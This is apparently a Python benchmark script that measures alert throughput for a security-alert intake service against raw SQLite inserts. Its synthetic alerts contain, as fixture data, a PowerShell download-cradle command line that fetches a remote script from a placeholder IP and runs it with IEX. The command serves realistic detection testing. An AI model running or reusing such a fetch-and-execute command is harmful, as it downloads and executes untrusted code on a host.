"""``garrison bench intake``: alerts/s accepted durably through the real HTTP intake, beside raw SQLite.

The intake runs as its own process (uvicorn) on a throwaway home, as in production; the client is this
process. The baseline inserts the same documents into a bare SQLite table (WAL, synchronous=FULL, a
unique index on the sender's id), the floor any durable intake on this disk pays.
"""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import httpx

_TENANTS = """
tenants:
  - id: bench
    name: Benchmark tenant
    auth:
      api_keys: [{env: GARRISON_BENCH_KEY}]
"""
_KEY = "bench-key"


@dataclass
class IntakeBenchmark:
    single_alerts: int
    single_per_second: float
    single_p50_ms: float
    single_p99_ms: float
    batch_alerts: int
    batch_size: int
    batch_per_second: float
    baseline_per_second: float
    batch_vs_baseline: float
    storm_alerts: int
    storm_incidents: int
    storm_seconds: float

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def _alert(n: int, storm: bool = False) -> dict[str, Any]:
    host = "WS-STORM-01" if storm else f"WS-{n % 500:04d}"
    return {
        "class_uid": 2004,
        "severity_id": 3,
        "time": 1763780000000 + n,
        "metadata": {"product": {"name": "Bench EDR"}, "uid": f"{'storm' if storm else 'a'}-{n}"},
        "finding_info": {
            "uid": f"{'storm' if storm else 'a'}-{n}",
            "title": "Suspicious PowerShell download cradle",
            "analytic": {"uid": "storm-rule" if storm else f"rule-{n % 50}"},
        },
        "device": {"hostname": host, "ip": f"10.0.{n % 250}.{n % 200 + 1}"},
        "evidences": [
            {
                "process": {
                    "name": "powershell.exe",
                    "cmd_line": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient)"
                    f".DownloadString('http://198.51.100.{n % 250}/a.ps1')",
                }
            }
        ],
    }


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _baseline(documents: list[bytes], batch_size: int, directory: Path) -> float:
    connection = sqlite3.connect(directory / "baseline.db", isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA synchronous=FULL")
    connection.execute("CREATE TABLE alerts (id INTEGER PRIMARY KEY, uid TEXT UNIQUE, document TEXT)")
    started = time.perf_counter()
    for start in range(0, len(documents), batch_size):
        rows = [
            (json.loads(d)["finding_info"]["uid"], d.decode()) for d in documents[start : start + batch_size]
        ]
        connection.execute("BEGIN IMMEDIATE")
        connection.executemany("INSERT INTO alerts (uid, document) VALUES (?, ?)", rows)
        connection.execute("COMMIT")
    elapsed = time.perf_counter() - started
    connection.close()
    return len(documents) / elapsed


def run_intake_benchmark(
    single: int = 500,
    batch: int = 20_000,
    batch_size: int = 1_000,
    storm: int = 10_000,
    say: Callable[[str], None] = lambda _: None,
) -> IntakeBenchmark:
    with tempfile.TemporaryDirectory(prefix="garrison-bench-") as folder:
        home = Path(folder)
        (home / "tenants.yaml").write_text(_TENANTS, encoding="utf-8")
        port = _free_port()
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PREFECT_API", "GARRISON_"))}
        env.update(
            GARRISON_HOME=str(home / "garrison"),
            GARRISON_TENANTS_FILE=str(home / "tenants.yaml"),
            GARRISON_BENCH_KEY=_KEY,
        )
        argv = [sys.executable, "-m", "uvicorn", "flows.intake:app_from_env", "--factory"]
        server = subprocess.Popen(
            [*argv, "--host", "127.0.0.1", "--port", str(port), "--no-access-log", "--log-level", "warning"],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        base = f"http://127.0.0.1:{port}"
        headers = {"X-Garrison-Tenant": "bench", "Authorization": f"Bearer {_KEY}"}
        try:
            _wait(base)
            with httpx.Client(base_url=base, headers=headers, timeout=60.0) as client:
                say(f"single: {single} alerts, one request each")
                latencies = []
                started = time.perf_counter()
                for n in range(single):
                    t0 = time.perf_counter()
                    response = client.post("/v1/alerts", json=_alert(n))
                    latencies.append((time.perf_counter() - t0) * 1000)
                    response.raise_for_status()
                single_rate = single / (time.perf_counter() - started)

                say(f"batch: {batch} alerts in batches of {batch_size}")
                lines = [json.dumps(_alert(single + n)).encode() for n in range(batch)]
                started = time.perf_counter()
                for start in range(0, batch, batch_size):
                    body = b"\n".join(lines[start : start + batch_size])
                    client.post(
                        "/v1/alerts:batch", content=body, headers={"Content-Type": "application/x-ndjson"}
                    ).raise_for_status()
                batch_rate = batch / (time.perf_counter() - started)

                say(f"storm: {storm} similar alerts")
                storm_lines = [json.dumps(_alert(n, storm=True)).encode() for n in range(storm)]
                started = time.perf_counter()
                incidents: set[str] = set()
                for start in range(0, storm, batch_size):
                    body = b"\n".join(storm_lines[start : start + batch_size])
                    result = client.post(
                        "/v1/alerts:batch", content=body, headers={"Content-Type": "application/x-ndjson"}
                    )
                    result.raise_for_status()
                    incidents.update(r["incident_id"] for r in result.json()["results"])
                storm_seconds = time.perf_counter() - started
        finally:
            server.terminate()
            server.wait(timeout=30)
        say("baseline: raw SQLite inserts of the same documents")
        baseline_rate = _baseline(lines, batch_size, home)
    ordered = sorted(latencies)
    return IntakeBenchmark(
        single_alerts=single,
        single_per_second=round(single_rate, 1),
        single_p50_ms=round(statistics.median(ordered), 2),
        single_p99_ms=round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))], 2),
        batch_alerts=batch,
        batch_size=batch_size,
        batch_per_second=round(batch_rate, 1),
        baseline_per_second=round(baseline_rate, 1),
        batch_vs_baseline=round(batch_rate / baseline_rate, 3),
        storm_alerts=storm,
        storm_incidents=len(incidents),
        storm_seconds=round(storm_seconds, 2),
    )


def _wait(base: str) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if httpx.get(f"{base}/v1/health", timeout=1).is_success:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.2)
    raise RuntimeError("the intake did not start for the benchmark")
